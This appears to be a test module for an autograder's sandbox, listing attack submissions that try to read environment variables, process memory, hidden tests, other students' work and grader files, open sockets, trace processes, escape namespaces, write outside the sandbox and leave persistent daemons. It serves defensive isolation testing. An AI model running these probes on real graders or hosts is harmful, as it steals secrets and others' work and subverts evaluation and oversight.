"""Hand-ins that look for what a trainee must not see: keys, rules, hidden tests, other people's work, the grader's secrets."""
# The code of an attack stands in one string.
# ruff: noqa: E501

from tests.attacks.entry import CHANNEL, HUNT, Attack

SYSCALLS = """
import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
call = lambda number, *args: libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
"""


def _hunt(name: str, why: str, source: str, **more: float) -> Attack:
    return Attack(name, why, HUNT + source, **more)  # type: ignore[arg-type]


ATTACKS = [
    _hunt(
        "environments",
        "the grader's environment shows somewhere",
        "tell(dict(os.environ))\ntell(os.environb)\nfor one in os.listdir('/proc'):\n    look(f'/proc/{one}/environ')",
    ),
    _hunt(
        "process-one",
        "pid 1 is the grader or its server",
        "for pid in ('1', '2', '3', str(os.getppid()), 'self', 'thread-self'):\n"
        "    for part in ('environ', 'cmdline', 'mem', 'maps', 'mountinfo', 'root/etc/passwd', 'cwd/class.yml', 'status'):\n"
        "        look(f'/proc/{pid}/{part}')\n    for fd in range(64):\n        look(f'/proc/{pid}/fd/{fd}')",
    ),
    _hunt(
        "own-memory",
        "the process was forked from one that had seen a key",
        "with open('/proc/self/maps') as maps:\n    areas = [line.split() for line in maps]\n"
        "with open('/proc/self/mem', 'rb', 0) as memory:\n    for area in areas:\n"
        "        if 'r' not in area[1] or len(area) > 5 and area[5].startswith(('/', '[v')):\n            continue\n"
        "        low, high = (int(part, 16) for part in area[0].split('-'))\n        try:\n            memory.seek(low)\n"
        "            tell(memory.read(min(high - low, 30_000_000)))\n        except (OSError, OverflowError, ValueError):\n            pass",
    ),
    _hunt(
        "objects-in-the-collector",
        "a key lies among this process's objects",
        "import gc\ngc.unfreeze()\nfor one in gc.get_objects():\n    if type(one) in (dict, list, tuple):\n"
        "        for part in (one.values() if type(one) is dict else one):\n            if type(part) in (str, bytes):\n                tell(part)",
    ),
    _hunt(
        "frames",
        "the callers' variables hold a key or a hidden test",
        "import sys\nframe = sys._getframe()\nwhile frame:\n    for name, value in {**frame.f_globals, **frame.f_locals}.items():\n"
        "        try:\n            tell(repr(value))\n            tell(repr(vars(value)))\n        except Exception:\n            pass\n    frame = frame.f_back",
    ),
    _hunt(
        "caller-of-the-function",
        "the judge calls a function and its frames show the test",
        "import sys\ndef mean_tonnes(*args, **named):\n    tell((args, named))\n    frame, seen = sys._getframe(), []\n"
        "    while frame:\n        seen.append(repr(frame.f_locals)[:100_000])\n        frame = frame.f_back\n    tell(seen)\n"
        "    return [one for one in seen if 'HIDDEN' in one]",
    ),
    _hunt(
        "walk-the-tree",
        "something of the host is left readable",
        "import time\nuntil = time.monotonic() + 1.5\nfor top in ('/root', '/home', '/work', '/tmp', '/var', '/etc', '/opt', '/mnt', '/run', '/srv', '/'):\n"
        "    for folder, folders, names in os.walk(top):\n"
        "        folders[:] = [one for one in folders if os.path.join(folder, one) not in ('/proc', '/sys', '/usr') and one != 'site-packages']\n"
        "        for name in names:\n            if time.monotonic() < until:\n                look(os.path.join(folder, name))",
    ),
    _hunt(
        "paths-that-an-insider-knows",
        "the class folder, the home folder or /tmp of the host can be opened by name",
        "for path in ('@CLASS@/class.yml', '@CLASS@/roster.csv', '@CLASS@/gradebook.db', '@CLASS@/frozen/tiny-sort/key.py', "
        "'@CLASS@/frozen/tiny-sort/board.yml', '@CLASS@/source/tiny-sort/tiny-sort.ipynb', '@CLASS@/submitted/@VICTIM@/tiny-sort/tiny-sort.ipynb', "
        "'@CLASS@/variants/@VICTIM@/tiny-sort/transactions.csv', '@HOME@', '@TMP@', '@PROJECT@/autograder/judge/marking.py'):\n"
        "    for way in ('', '/proc/self/root', '/proc/1/root', '/proc/self/cwd/../..', '/dev/fd/../../..'):\n        look(way + path)",
    ),
    _hunt(
        "links-in-the-working-folder",
        "the grader follows a link out of the room when it tidies up",
        "for number, path in enumerate(('@CLASS@', '@HOME@', '@TMP@', '/')):\n    os.symlink(path, f'link{number}')\n    look(f'link{number}')\n"
        "os.rename('transactions.csv', 'old.csv')\nos.symlink('@HOME@', 'transactions.csv')\nlook('transactions.csv')",
    ),
    _hunt(
        "sockets-of-every-family",
        "some family of sockets leaves the room",
        "import socket\nfor family in range(1, 46):\n    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):\n"
        "        try:\n            with socket.socket(family, kind) as there:\n                there.settimeout(0.2)\n                if family != socket.AF_UNIX:\n"
        "                    print('socket of family', family)\n                there.connect(('127.0.0.1', @PORT@) if family != 1 else '@ABSTRACT@')\n"
        "                print('connected', family)\n                tell(there.recv(100))\n        except (OSError, TypeError, OverflowError):\n            pass",
    ),
    _hunt(
        "names-and-mail",
        "a resolver, a proxy or a program with rights of its own gets out",
        "import subprocess, urllib.request\nfor url in ('http://127.0.0.1:@PORT@/', 'http://example.com/', 'file://@HOME@'):\n"
        "    try:\n        tell(urllib.request.urlopen(url, timeout=0.3).read())\n    except Exception:\n        pass\n"
        "for line in ('getent hosts example.com', 'sudo -n cat @HOME@', 'su -c id', 'mount -t proc none /mnt', 'cat @HOME@', 'ls -R @CLASS@'):\n"
        "    done = subprocess.run(line.split(), capture_output=True, timeout=1) if __import__('shutil').which(line.split()[0]) else None\n"
        "    if done:\n        tell(done.stdout + done.stderr)",
    ),
    Attack(
        "leave-something-behind",
        "a file, a segment, a daemon or a socket waits for the next hand-in",
        HUNT + SYSCALLS + "import socket\nmark = ('kf' + 'canary' + '0' * 16).encode()\n"
        "for folder in ('/tmp', '/paper', '/dev/shm', '/kf-cache', '/kf-scratch', '/var/tmp', '/run', '/dev', '/tmp/ipython', '/dev/mqueue', '/mnt'):\n"
        "    try:\n        os.makedirs(folder, exist_ok=True)\n        open(folder + '/left', 'wb').write(mark)\n    except OSError:\n        pass\n"
        "os.environ['LEFT'] = mark.decode()\nqueue = libc.mq_open(b'/left', 66, 438, None)\nlibc.shmget(777, 4096, 0o1666)\n"
        "if os.fork() == 0:\n    os.setsid()\n    there = socket.socket(socket.AF_UNIX)\n    there.bind('\\0left')\n    there.listen()\n"
        "    while True:\n        there.accept()[0].send(mark)",
    ),
    _hunt(
        "find-what-was-left",
        "an earlier hand-in has left word",
        SYSCALLS
        + "import socket\nfor folder in ('/tmp', '/paper', '/dev/shm', '/kf-cache', '/kf-scratch', '/var/tmp', '/run', '/dev', '/dev/mqueue', '/mnt'):\n"
        "    for top, _, names in os.walk(folder):\n        for name in names:\n            if name.startswith('left'):\n                look(os.path.join(top, name))\n"
        "tell(dict(os.environ))\nif libc.shmget(777, 4096, 0) >= 0 or libc.mq_open(b'/left', 0) >= 0:\n    print('found', 'a segment or queue')\n"
        "try:\n    with socket.socket(socket.AF_UNIX) as there:\n        there.settimeout(0.3)\n        there.connect('\\0left')\n        tell(there.recv(50))\nexcept OSError:\n    pass",
    ),
    _hunt(
        "trace-and-read",
        "another process can be traced or read",
        SYSCALLS
        + "import struct\nbuffer = ctypes.create_string_buffer(4096)\nfor pid in range(1, 60):\n    if pid != os.getpid():\n"
        "        if libc.ptrace(16, pid, None, None) == 0:\n            print('traced', pid)\n"
        "        if call(310, pid, 0, 0, 0, 0, 0) >= 0:\n            print('read', pid)\n"
        "        if call(438, pid, 3, 0) >= 0:\n            print('took a descriptor of', pid)",
    ),
    _hunt(
        "new-namespaces-and-mounts",
        "a new user namespace gives capabilities, a new mount shows the host",
        SYSCALLS + "for flag in (0x10000000, 0x20000, 0x20000000, 0x40000000, 0x8000000, 0x4000000, 0x2000000):\n"
        "    if libc.unshare(flag) == 0:\n        print('unshared', flag)\n"
        "for kind in (b'proc', b'tmpfs', b'sysfs', b'overlay', b'devtmpfs'):\n    if libc.mount(kind, b'/mnt', kind, 0, None) == 0:\n        print('mounted', kind)\n"
        "for name in ('user', 'mnt', 'pid', 'net'):\n    try:\n        if libc.setns(os.open(f'/proc/1/ns/{name}', os.O_RDONLY), 0) == 0:\n            print('entered', name)\n    except OSError:\n        pass\n"
        "if libc.chroot(b'/tmp') == 0 or libc.umount2(b'/proc', 2) == 0 or call(155, b'.', b'.') == 0:\n    print('moved the root')\n"
        "child = call(56, 0x10000000 | 17, 0, 0, 0, 0)\nif child == 0:\n    os._exit(0)\nif child > 0:\n    print('cloned into a user namespace')",
    ),
    _hunt(
        "handles-and-keyrings",
        "file handles, the kernel's keyring and log, bpf and memory files are not shut",
        SYSCALLS
        + "tried = {'open_by_handle_at': call(304, -100, ctypes.create_string_buffer(64), 0), 'add_key': call(248, b'user', b'x', b'y', 1, -3), "
        "'keyctl': call(250, 0, -3, 1), 'syslog': call(103, 3, ctypes.create_string_buffer(4096), 4096), 'bpf': call(321, 0, 0, 0), "
        "'memfd': call(319, b'x', 0), 'uring': call(425, 4, ctypes.create_string_buffer(200)), 'userfaultfd': call(323, 0), "
        "'perf': call(298, ctypes.create_string_buffer(200), 0, -1, -1, 0), 'personality': call(135, 0x0040000)}\n"
        "print('open:', [name for name, result in tried.items() if result >= 0])",
    ),
    _hunt(
        "devices",
        "a device shows the host's memory or discs",
        "import itertools\nfor name in os.listdir('/dev'):\n    if name not in ('zero', 'random', 'urandom', 'full', 'tty', 'console', 'ptmx', 'stdin', 'core', 'fd', 'pts', 'shm'):\n        look('/dev/' + name)\n"
        "for path in ('/dev/mem', '/dev/kmsg', '/dev/kvm', '/dev/fuse', '/proc/kcore', '/proc/kmsg', '/proc/sysrq-trigger', '/sys/kernel'):\n"
        "    try:\n        os.close(os.open(path, os.O_RDWR))\n        print('opened', path)\n    except OSError:\n        pass\n"
        "for kind in (0o020600, 0o060600):\n    try:\n        os.mknod('/tmp/node', kind, os.makedev(1, 1))\n        print('made a device')\n    except OSError:\n        pass",
    ),
    _hunt(
        "judge-and-toolkit-sources",
        "the judge's code, board.yml or a key lies on the import path",
        "import sys, importlib\nfor name in ('autograder.judge', 'autograder.judge.marking', 'autograder.course.grade', 'exercises', 'key', 'nbgrader_config'):\n"
        "    try:\n        importlib.import_module(name)\n        print('imported', name)\n    except ImportError:\n        pass\n"
        "for top in sys.path:\n    for folder, folders, names in os.walk(top if 'site-packages' not in top and 'lib/python' not in top else '/nowhere'):\n"
        "        folders[:] = [one for one in folders if one not in ('node_modules', 'site-packages')]\n        for name in names:\n            if name in ('key.py', 'board.yml', 'class.yml', 'methods.py'):\n                print('sees', name)\n            if name.endswith(('.py', '.yml', '.md')):\n                look(os.path.join(folder, name))",
    ),
    _hunt(
        "inherited-descriptors",
        "a descriptor of the server or of the grader was left open",
        "for name in os.listdir('/proc/self/fd'):\n    try:\n        print(os.readlink(f'/proc/self/fd/{name}').split(':')[0])\n        os.lseek(int(name), 0, 0)\n        tell(os.read(int(name), 1_000_000))\n    except (OSError, BlockingIOError):\n        pass",
    ),
    Attack(
        "test-quoted-in-an-error",
        "the hidden test breaks on the value and its lines stand in the traceback",
        "class E(Exception):\n    pass\ndef mean_tonnes(*_):\n    raise AssertionError('x' * 10)",
    ),
    Attack(
        "test-quoted-in-an-odd-error",
        "an error with notes, causes and groups carries lines of the test along",
        "def mean_tonnes(*_):\n    try:\n        1 / 0\n    except Exception as error:\n        error.add_note('n' * 100)\n        raise ExceptionGroup('g', [error, KeyError('mean-tonnes')]) from error",
    ),
    Attack(
        "test-quoted-by-the-sandbox",
        "the reply to a call is an error of the attacker's making",
        CHANNEL
        + "def mean_tonnes(*_):\n    channel().send(frame({'error': ['KeyError', 'x']}))\n    channel().send(frame({'error': [5]}))\n    return 1",
    ),
    _hunt(
        "writes-everywhere",
        "a file outside the room can be written",
        "for folder in ('@CLASS@', '@CLASS@/submitted/@VICTIM@/tiny-sort', '@CANARIES@', '@PROJECT@/toolkit', '@PROJECT@/autograder/sandbox', "
        "'/usr/bin', '/etc', '/', '/root', '/home', os.path.dirname(os.__file__), '/proc/sys/kernel', '/mnt', '/var/tmp', '/run'):\n"
        "    for name in ('written-from-within', 'core_pattern', 'open.txt', 'answers.json', '__init__.py'):\n"
        "        try:\n            with open(f'{folder}/{name}', 'ab') as file:\n                file.write(b'\\n# written-from-within\\n')\n            print('wrote', folder)\n        except OSError:\n            pass",
    ),
]
